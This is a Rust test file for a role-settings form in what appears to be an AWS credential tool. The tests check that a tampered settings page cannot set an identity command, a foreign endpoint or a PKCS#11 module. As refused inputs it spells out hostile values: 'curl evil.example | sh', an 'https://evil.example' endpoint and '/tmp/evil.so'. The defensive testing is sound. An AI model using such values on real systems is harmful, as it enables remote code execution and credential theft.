//! A page that somebody else took over chooses neither a program nor an address.

use super::*;
use crate::wire;
use rolecall::settings::read_settings;

const SETTINGS: &str = r#"
[role.ci]
web_identity_command = "print-token"
role = "arn:aws:iam::000000000001:role/Build"
region = "eu-central-1"
endpoint_url = "https://aws.example"
"#;

fn form(name: &str, replaces: Option<&str>, fields: &[(&str, &str)]) -> RoleFormInput {
    let field = |(key, text): &(&str, &str)| wire::RoleFieldText {
        key: (*key).to_owned(),
        text: (*text).to_owned(),
    };
    RoleFormInput {
        name: name.to_owned(),
        replaces: replaces.map(str::to_owned),
        fields: fields.iter().map(field).collect(),
        secret: String::new(),
    }
}

const REST: [(&str, &str); 2] = [
    ("role", "arn:aws:iam::000000000001:role/Build"),
    ("region", "eu-west-1"),
];

fn fields<'a>(own: &[(&'a str, &'a str)]) -> Vec<(&'a str, &'a str)> {
    [own, &REST].concat()
}

fn refused(name: &str, replaces: Option<&str>, own: &[(&str, &str)]) -> Vec<String> {
    let settings = read_settings(SETTINGS).unwrap();
    let faults = role_form(&settings, form(name, replaces, &fields(own))).unwrap_err();
    faults.into_iter().map(|fault| fault.key).collect()
}

#[test]
fn a_command_and_a_foreign_endpoint_are_refused() {
    let command = [("web_identity_command", "curl evil.example | sh")];
    assert_eq!(refused("new", None, &command), ["web_identity_command"]);
    assert_eq!(refused("ci", Some("ci"), &command), ["web_identity_command"]);
    let endpoint = [
        ("web_identity_token_file", "/run/token"),
        ("endpoint_url", "https://evil.example"),
    ];
    assert_eq!(refused("new", None, &endpoint), ["endpoint_url"]);
}

#[test]
fn what_was_there_may_stay_and_this_machine_may_be_chosen() {
    let settings = read_settings(SETTINGS).unwrap();
    let unchanged = [
        ("web_identity_command", "print-token"),
        ("endpoint_url", "https://aws.example"),
    ];
    assert!(role_form(&settings, form("ci", Some("ci"), &fields(&unchanged))).is_ok());
    let emulator = [
        ("web_identity_token_file", "/run/token"),
        ("endpoint_url", "http://127.0.0.1:4566"),
    ];
    assert!(role_form(&settings, form("new", None, &fields(&emulator))).is_ok());
}

#[test]
fn a_module_is_code_and_not_chosen_in_the_page() {
    let uri = "pkcs11:token=host?module-path=/tmp/evil.so";
    let by_hand = format!(
        r#"
[role.host]
roles_anywhere = "arn:aws:iam::111122223333:role/Host"
pkcs11 = "{uri}"
trust_anchor = "arn:aws:rolesanywhere:eu-west-1:111122223333:trust-anchor/66666666-7777-8888-9999-000000000000"
profile = "arn:aws:rolesanywhere:eu-west-1:111122223333:profile/11111111-2222-3333-4444-555555555555"
"#
    );
    let settings = read_settings(&by_hand).unwrap();
    let own = role_field_texts(&settings.roles[0].method);
    let with = |uri: &str| {
        let mut texts: Vec<(&str, &str)> = own.iter().map(|field| (&*field.key, &*field.text)).collect();
        texts.retain(|(key, _)| *key != "pkcs11");
        texts.push(("pkcs11", uri));
        form("other", None, &texts)
    };
    let refused = role_form(&settings, with(uri)).unwrap_err();
    assert_eq!(refused[0].key, "pkcs11");
    assert!(role_form(&settings, with("pkcs11:token=host")).is_ok());
    let unchanged = RoleFormInput {
        name: "host".to_owned(),
        replaces: Some("host".to_owned()),
        ..with(uri)
    };
    assert!(role_form(&settings, unchanged).is_ok(), "what was there may stay");
}
